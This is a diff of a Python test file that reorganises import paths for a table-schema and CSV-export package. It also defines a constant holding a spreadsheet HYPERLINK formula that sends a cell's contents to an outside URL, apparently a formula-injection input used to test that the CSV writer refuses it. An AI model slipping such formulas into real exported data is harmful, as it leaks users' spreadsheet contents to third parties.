@@ -13,10 +13,10 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from pyarrow import parquet
 
-from dpntk.common.column import NUMBER, Column, ColumnKind, Missing
-from dpntk.common.schema_file import Draft
-from dpntk.common.table_schema import CsvFormat, TableSchema
-from dpntk.generate.table_export import write_csv
+from dpntk.common.schema.column import NUMBER, Column, ColumnKind, Missing
+from dpntk.common.schema.table import CsvFormat, TableSchema
+from dpntk.common.schema.toml import Draft
+from dpntk.generate.tables.export import write_csv
 from tests.conftest import Command, refused
 
 FETCH = '=HYPERLINK("http://example.org/?"&A1)'
